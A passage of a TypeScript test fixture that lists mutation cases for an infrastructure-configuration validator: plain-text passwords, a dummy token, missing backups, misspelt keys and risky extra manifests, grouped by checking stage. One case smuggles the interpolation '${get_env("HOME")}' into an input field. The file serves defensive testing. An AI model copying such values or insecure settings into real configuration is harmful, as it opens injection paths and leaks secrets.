  ['high availability on a size that has none', ["size: 'GP_Standard_D2ds_v5'", "size: 'B_Standard_B2s'"]],
  [
    'a registry that is not premium',
    ["resourceGroup: 'acme-shared',", "resourceGroup: 'acme-shared',\n    retentionDays: 30,"],
  ],
  ['a host written in full', ['hosts: { api: {} }', "hosts: { 'api.staging.acme.example': {} }"]],
  ['the domain itself written in full', ["hosts: { '@': {} },", "hosts: { 'acme.example': {} },"]],
  ['a host of the other environment', ['hosts: { api: {} }', "hosts: { 'api.staging': {} }"]],
  [
    'one identity for two services',
    [REPLICAS, 'in: { prod: { replicaCount: 3, workloadIdentity: { clientId: platformTeam } } },'],
    [ETLJOBS, "in: { staging: { pool: 'etljobs' }, prod: { workloadIdentity: { clientId: platformTeam } } },"],
  ],
  ['one identity for two environments', [WORK, `${WORK}\n      workloadIdentity: { clientId: platformTeam },`]],
  [
    'a port that a preset gives to a job',
    ['    database: {\n      envs: {\n', '    database: {\n      ports: { http: 8080 },\n      envs: {\n'],
  ],
  [
    'the same zone twice',
    [
      "default: { size: 'Standard_D4s_v5', nodes: 3 }",
      "default: { size: 'Standard_D4s_v5', nodes: 3, zones: ['1', '1'] }",
    ],
  ],
  [
    'the same group twice',
    [
      "adminGroups: [testers],\n        systemPool: 'default'",
      "adminGroups: [testers, testers],\n        systemPool: 'default'",
    ],
  ],
  [
    'the same database twice',
    [
      "databases: ['shop'],\n          login: { user: 'shop' },\n        },\n      },\n    },\n  },",
      "databases: ['shop', 'shop'],\n          login: { user: 'shop' },\n        },\n      },\n    },\n  },",
    ],
  ],
  ['the same path twice', ['hosts: { api: {} }', "hosts: { api: { paths: ['/v1', '/v1'] } }"]],
];

const judge: Case[] = [
  ['a password in plain text', [LOG, "SMTP_PASSWORD: 'hunter2',"]],
  ['a password by a short name', [LOG, "SMTP_PASS: 'hunter2',"]],
  ['a token in plain text', [LOG, "GITHUB_TOKEN: 'ghp_abcdefghijklmnopqrstuvwxyz0123456789',"]],
  ['a password in an address', [LOG, "AMQP: 'amqp://shop:hunter2@queue.example/',"]],
  ['a password in an argument', [WORK, "args: ['work', '--dsn=postgres://shop:hunter2@db.example/'],"]],
  ['production without a backup', ['backupRetentionDays: 35', 'backupRetentionDays: 7']],
  ['production without the words of a backup', ['          backupRetentionDays: 35,\n', '']],
  ['production without a standby', ["          highAvailability: 'ZoneRedundant',\n", '']],
  [
    'one replica in production',
    ['resources: small,\n      shutdown', 'replicaCount: 1,\n      resources: small,\n      shutdown'],
  ],
  [
    'a disk, and the replicas that production has by itself',
    [WORK, `${WORK}\n      volumes: { data: { kind: 'persistent', mountPath: '/data', size: '10Gi' } },`],
    [REPLICAS, ''],
  ],
  [
    'a disk of a service that scales',
    [
      LOG,
      `${LOG}\n      },\n      volumes: {\n        data: { kind: 'persistent', mountPath: '/data', size: '10Gi' },`,
    ],
  ],
  ['one replica at the least in production', ['minReplicas: 2,', 'minReplicas: 1,']],
  ['a service that is larger than its pool', [API_LIMITS, "resources: { requests: { cpu: '8', memory: '512Mi' } },"]],
  [
    'a service with more memory than its pool',
    [API_LIMITS, "resources: { requests: { cpu: '250m', memory: '64Gi' } },"],
  ],
  [
    'an image that is the latest',
    ["image: 'shop-web',", "image: { repository: 'docker.io/library/nginx', tag: 'latest' },"],
  ],
  ['an address of the other environment', [LOG, "DATABASE: 'acme-staging-main.postgres.database.azure.com',"]],
  [
    'production on a newer version',
    [
      "kubernetesVersion: '1.36',\n        adminGroups: [platformTeam],\n        authorizedRanges",
      "kubernetesVersion: '1.37',\n        adminGroups: [platformTeam],\n        authorizedRanges",
    ],
  ],
  [
    'no readiness in production',
    ['...web(3000),', 'ports: { web: 3000, admin: 3001 },'],
    ["hosts: { '@': {} },", "hosts: { '@': { port: 'web' } },"],
  ],
  ['extra Helm values that override', [WORK, "args: ['work'],\n      extraHelmValues: { replicaCount: 9 },"]],
  [
    'extra Helm values that take away what no layer has set',
    [WORK, "args: ['work'],\n      extraHelmValues: { probes: null, podLabels: { team: null } },"],
  ],
  ['an extra Helm value with a misspelt key', [WORK, "args: ['work'],\n      extraHelmValues: { replicaCuont: 9 },"]],
  [
    'an extra manifest that the chart makes',
    [
      REPLICAS,
      `${REPLICAS}\n      extraManifests: [{ apiVersion: 'v1', kind: 'ServiceAccount', metadata: { name: 'front' } }],`,
    ],
  ],
  [
    'an extra manifest of another namespace',
    [
      REPLICAS,
      `${REPLICAS}\n      extraManifests: [{ apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'x', namespace: 'argocd' } }],`,
    ],
  ],
  [
    'an extra manifest of the whole cluster',
    [
      "resourceGroup: 'acme-prod',",
      "resourceGroup: 'acme-prod',\n      extraManifests: { all: { apiVersion: 'rbac.authorization.k8s.io/v1', kind: 'ClusterRole', metadata: { name: 'all' } } },",
    ],
  ],
  [
    'a password in an extra input',
    [
      "resourceGroup: 'acme-prod',",
      "resourceGroup: 'acme-prod',\n      extraInputs: { cluster: { windows_profile: { admin_password: 'hunter2' } } },",
    ],
  ],
  [
    'an extra manifest that is a Secret',
    [
      REPLICAS,
      `${REPLICAS}\n      extraManifests: [{ apiVersion: 'v1', kind: 'Secret', metadata: { name: 'smtp' }, stringData: { password: 'hunter2' } }],`,
    ],
  ],
  [
    'an extra manifest that blocks a drain',
    [
      REPLICAS,
      `${REPLICAS}\n      extraManifests: [\n        {\n          apiVersion: 'policy/v1',\n          kind: 'PodDisruptionBudget',\n          metadata: { name: 'never' },\n          spec: { maxUnavailable: 0, selector: {} },\n        },\n      ],`,
    ],
  ],
];

const verify: Case[] = [
  [
    'an extra Helm value with a misspelt key inside',
    [WORK, "args: ['work'],\n      extraHelmValues: { rollout: { maxSurg: 1 } },"],
  ],
  [
    'an extra Helm value of the wrong sort',
    [WORK, "args: ['work'],\n      extraHelmValues: { podAnnotations: 'none' },"],
  ],
  [
    'an extra input with a misspelt variable',
    [
      "resourceGroup: 'acme-prod',",
      "resourceGroup: 'acme-prod',\n      extraInputs: { cluster: { kubernetes_verion: '1.36' } },",
    ],
  ],
  [
    'an extra input of the wrong sort',
    [
      "resourceGroup: 'acme-prod',",
      "resourceGroup: 'acme-prod',\n      extraInputs: { cluster: { oidc_issuer_enabled: 'yes' } },",
    ],
  ],
  [
    'extra inputs of a misspelt unit',
    ["resourceGroup: 'acme-prod',", "resourceGroup: 'acme-prod',\n      extraInputs: { clustr: { name: 'x' } },"],
  ],
  [
    'an interpolation in an extra input',
    [
      "resourceGroup: 'acme-prod',",
      "resourceGroup: 'acme-prod',\n      extraInputs: { cluster: { name: '${get_env(\"HOME\")}' } },",
    ],
  ],
  [
    'extra inputs of a misspelt unit of all environments',
    ["loginServerSecret: 'ACME_REGISTRY',", "loginServerSecret: 'ACME_REGISTRY',\n    extraInputs: { registy: {} },"],
  ],
];

/** The edits of cases of these names. */
function all(cases: readonly Case[], ...names: readonly string[]): Case[1][] {
  return names.flatMap((name) => cases.find((one) => one[0] === name)?.slice(1) as Case[1][]);
}

const several: Case[] = [
  [
    'of loading: all of them are told before anything runs',
    ...all(load, 'an import from outside of the repository', 'an import() of code'),
    ...all(load, 'a prototype as the name of a service'),
  ],
  [
    'of values that are no data',
    ...all(load, 'a function as a value', 'a hole in a list'),
    [END, '  sealed,\n  at: 1 / 0,\n'],
  ],
  [
    'of shapes and formats',
    ...all(
      config,
      'a misspelt key of the platform',
      'a number as text',
      'a domain with a scheme',
      'a cron of six fields',
    ),
    ...all(config, 'a misspelt key of resources', 'a range with host bits', 'a service with an underscore'),
    ...all(config, 'a constant that many use'),
  ],
  [
    'of names',
    ...all(
      config,
      'a misspelt pool',
      'a misspelt image',
      'a misspelt secret',
      'a misspelt preset',
      'a misspelt system pool',
    ),
  ],
  [
    'of what belongs together',
    ...all(
      model,
      'two networks that overlap',
      'a limit below the request',
      'autoscaling upside down',
      'a job with hosts',
    ),
    ...all(model, 'two environments with one folder', 'a pool upside down'),
  ],
  [
    'of rules',
    ...all(judge, 'a password in plain text', 'production without a backup', 'one replica in production'),
    ...all(judge, 'a password in an argument'),
  ],
  [
    'of documents',
    ...all(verify, 'an extra Helm value with a misspelt key inside', 'an extra input with a misspelt variable'),
    ...all(verify, 'extra inputs of a misspelt unit of all environments'),
  ],
];

export const stages: Readonly<Record<string, readonly Case[]>> = { load, config, model, judge, verify, several };

/** Mistakes with another number of errors than one: what must be mended stands in as many places. */
export const ERRORS: Readonly<Record<string, number>> = {
  // in the front and in the worker, which both want the address of it
  'a service left out where another needs it': 2,
  // of the chart, which needs it, and of the chart's extras
  'extra Helm values that take away what no layer has set': 2,
  // in two variables that name it
  'a database that one environment does not have': 2,
};
